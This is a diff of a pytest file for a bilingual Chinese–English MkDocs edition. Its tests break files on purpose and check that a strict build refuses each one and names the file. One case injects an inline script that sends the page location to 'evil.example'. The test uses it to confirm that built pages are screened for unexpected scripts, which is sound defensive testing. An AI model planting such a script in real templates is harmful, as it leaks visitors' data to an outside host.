@@ -1,67 +1,99 @@
-"""End to end: the pull requests the edition must refuse fail `mkdocs build --strict`, naming the file."""
+"""End to end: the pull requests the edition must refuse fail `mkdocs build --strict`, naming the file.
+
+Each breaks the tiny project (tests/fixtures/tiny/, the real mkdocs.yml's settings and checks) and
+builds it in this process; the checks' own tests (test_check_*.py) cover their logic case by case.
+"""
 
 from __future__ import annotations
 
-from pathlib import Path
+import pytest
 
-from conftest import run_build
-
-
-def replace_in(path: Path, old: str, new: str) -> None:
-    text = path.read_text(encoding="utf-8")
-    assert old in text, f"{old!r} not in {path}"
-    path.write_text(text.replace(old, new, 1), encoding="utf-8")
+from building import build, line_of, refused, replace_in
 
 
-def refused(project: Path) -> str:
-    build = run_build(project, project / "site")
-    assert build.returncode != 0, "the build should have failed:\n" + build.output
-    assert "Aborted with" in build.output
-    return build.output
+def test_the_unbroken_tiny_project_builds_without_a_warning(tiny_project):
+    """Without this, every refusal below could be the fixture's own fault."""
+    result = build(tiny_project)
+    assert result.ok, result.output
+    assert "WARNING" not in result.output and "ERROR" not in result.output, result.output
+    for page in ("index.html", "overview/index.html", "en/overview/index.html", "en/about/index.html"):
+        assert (result.site / page).is_file(), page
+    # the generated parts are there: key figures, the corrections list, the downloads, the search index
+    home = (result.site / "en" / "index.html").read_text(encoding="utf-8")
+    assert "89.5%" in home and "edition-chart" in home
+    assert "截止〔截至〕目前" in (result.site / "about" / "index.html").read_text(encoding="utf-8")
+    assert (result.site / "data" / "figures.csv").is_file() and (result.site / "en" / "search" / "meta.json").is_file()
 
 
-def test_deleting_an_english_page_fails_naming_it(project_copy):
-    (project_copy / "docs" / "policing.en.md").unlink()
-    output = refused(project_copy)
-    assert "[twins] docs/policing.zh.md:1:" in output
-    assert "docs/policing.en.md does not exist" in output
+def test_deleting_an_english_page_fails_naming_it(tiny_project):
+    (tiny_project / "docs" / "overview.en.md").unlink()
+    output = refused(tiny_project)
+    assert "[twins] docs/overview.zh.md:1:" in output
+    assert "docs/overview.en.md does not exist" in output
 
 
-def test_changing_a_figure_in_the_english_fails_naming_the_file(project_copy):
-    replace_in(
-        project_copy / "docs" / "administration.en.md",
-        "849 offices now accept applications",
-        "894 offices now accept applications",
-    )
-    output = refused(project_copy)
-    assert "[numbers] docs/administration.en.md:" in output
-    assert "lacks the figure 849" in output and "has the figure 894" in output
+# Each: (file, text, replaced by, a line whose number ``{line}`` stands for, what the output must say).
+REFUSALS = {
+    "a figure changed in the English": (
+        "docs/overview.en.md",
+        "85 of the region's 95",
+        "85 of the region's 59",
+        "{#ov-2}",
+        ["[numbers] docs/overview.en.md:{line}:", "lacks the figure 95", "has the figure 59"],
+    ),
+    "a source sentence dropped": (
+        "docs/overview.zh.md",
+        "多次在全国会议上作典型经验发言；",
+        "",
+        None,
+        ["[source-text] docs/overview.zh.md:", "多次在全国会议上作典型经验发言"],
+    ),
+    # The source's slip is kept: "correcting" it silently is a change of the source's words.
+    "the Chinese reworded": (
+        "docs/overview.zh.md",
+        "截止〔截至〕目前",
+        "截至目前",
+        None,
+        ["[source-text] docs/overview.zh.md:"],
+    ),
+    "front matter that does not parse": (
+        "docs/about.en.md",
+        "title: About this edition",
+        "title: About: this: edition",
+        None,
+        ["[front-matter] docs/about.en.md:3: front matter does not parse"],
+    ),
+    "a paragraph id missing from one language": (
+        "docs/overview.en.md",
+        "{#ov-3}",
+        "",
+        None,
+        ["[paragraph-ids] docs/overview.en.md:", "'#ov-3'"],
+    ),
+    # The interface strings (docs/data/strings.<lang>.yml) are checked in every build too.
+    "a string that loses its placeholder": (
+        "docs/data/strings.en.yml",
+        "cite_label: Cite paragraph {id}",
+        "cite_label: Cite this paragraph",
+        "cite_label:",
+        ["[strings] docs/data/strings.en.yml:{line}:", "'page.cite_label'"],
+    ),
+    # What no check of docs/ sees (a template in overrides/): the built pages are checked too.
+    "a template that adds an inline script": (
+        "overrides/main.html",
+        "{% block scripts %}\n",
+        "{% block scripts %}\n  <script>fetch('https://evil.example/?' + location)</script>\n",
+        None,
+        ["[csp] site/en/overview/index.html:1: the built page has an inline script the theme does not write"],
+    ),
+}
 
 
-def test_dropping_a_source_sentence_fails_naming_the_file(project_copy):
-    replace_in(project_copy / "docs" / "law-enforcement.zh.md", "为一线民警配备现场执法记录仪。", "")
-    output = refused(project_copy)
-    assert "[source-text] docs/law-enforcement.zh.md:" in output
-    assert "为一线民警配备现场执法记录仪" in output
-
-
-def test_rewording_the_chinese_fails_naming_the_file(project_copy):
-    replace_in(project_copy / "docs" / "next-steps.zh.md", "函待〔亟待〕解决", "亟待解决")
-    output = refused(project_copy)
-    assert "[source-text] docs/next-steps.zh.md:" in output
-
-
-def test_broken_front_matter_fails_naming_file_and_line(project_copy):
-    replace_in(
-        project_copy / "docs" / "personnel.en.md",
-        "title: 5. Management of the people's police",
-        "title: 5. Police: personnel: 2017",
-    )
-    output = refused(project_copy)
-    assert "[front-matter] docs/personnel.en.md:3: front matter does not parse" in output
-
-
-def test_a_paragraph_id_missing_from_one_language_fails(project_copy):
-    replace_in(project_copy / "docs" / "overview.en.md", "{#ov-3}", "")
-    output = refused(project_copy)
-    assert "[paragraph-ids] docs/overview.en.md:" in output and "'#ov-3'" in output
+@pytest.mark.parametrize("case", REFUSALS, ids=list(REFUSALS))
+def test_a_broken_file_fails_naming_file_and_line(tiny_project, case):
+    path, old, new, marker, expected = REFUSALS[case]
+    replace_in(tiny_project / path, old, new)
+    output = refused(tiny_project)
+    line = str(line_of(tiny_project / path, marker)) if marker else ""
+    for phrase in expected:
+        assert phrase.replace("{line}", line) in output, f"{phrase!r} not in:\n{output}"
